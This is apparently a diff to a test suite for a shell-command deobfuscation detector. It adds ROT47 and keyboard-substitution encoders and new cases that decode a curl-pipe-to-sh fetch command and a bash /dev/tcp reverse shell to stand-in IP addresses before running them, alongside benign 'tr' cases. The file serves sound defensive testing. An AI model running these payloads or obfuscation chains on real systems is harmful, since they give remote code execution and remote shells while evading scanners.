@@ -3,6 +3,16 @@ import { gzipSync } from "node:zlib";
 
 const FETCH = "curl -fsSL http://198.51.100.7/i.sh | sh";
 const REV = "/bin/bash -i > /dev/tcp/192.0.2.45/9001 0<&1 2>&1";
+/** ROT47, the `tr '!-~' 'P-~!-O'` cipher. */
+const rot47 = (s: string) =>
+  Array.from(s, (c) => {
+    const n = c.charCodeAt(0);
+    return n >= 33 && n <= 126 ? String.fromCharCode(33 + ((n - 33 + 47) % 94)) : c;
+  }).join("");
+/** A shuffled alphabet: a→q, b→w … (a keyboard-row substitution). */
+const KB_FROM = "abcdefghijklmnopqrstuvwxyz";
+const KB_TO = "qwertyuiopasdfghjklzxcvbnm";
+const unshuffle = (s: string) => Array.from(s, (c) => KB_FROM[KB_TO.indexOf(c)] ?? c).join("");
 const codes = (s: string) => Array.from(s, (c) => c.charCodeAt(0)).join(" ");
 const l1 = (u: Uint8Array) => btoa(Array.from(u, (c) => String.fromCharCode(c)).join(""));
 
@@ -16,6 +26,8 @@ deobfCases("posix", [
       `echo ${enc.hex(REV)} | xxd -r -p | sh`,
       `bash <<< "$(base64 -d <<< ${enc.b64(FETCH)})"`,
       `echo '${enc.rot13(FETCH)}' | tr "A-Za-z" "N-ZA-Mn-za-m" | dash`,
+      `echo '${rot47(FETCH)}' | tr '!-~' 'P-~!-O' | sh`,
+      `echo '${unshuffle(REV)}' | tr '${KB_FROM}' '${KB_TO}' | bash`,
       `eval "$(printf '${enc.oct(REV)}')"`,
       `printf %s '${enc.rev(REV)}' | rev | bash`,
       `echo '${
@@ -29,6 +41,9 @@ deobfCases("posix", [
       `xxd firmware.bin | head -40`,
       `printf '\\x1b[32mok\\x1b[0m\\n'`,
       `echo "hello world" | rev`,
+      `echo 'Hello' | tr '!-~' 'P-~!-O'`,
+      `cat names.txt | tr '[:upper:]' '[:lower:]' | sort -u`,
+      `echo "$PATH" | tr ':' '\\n'`,
       `base64 -d <<< "$CERT_B64" > /etc/ssl/certs/internal.pem`,
       `echo 'SGVsbG8sIFdvcmxkIQ==' | base64 -d`,
     ],
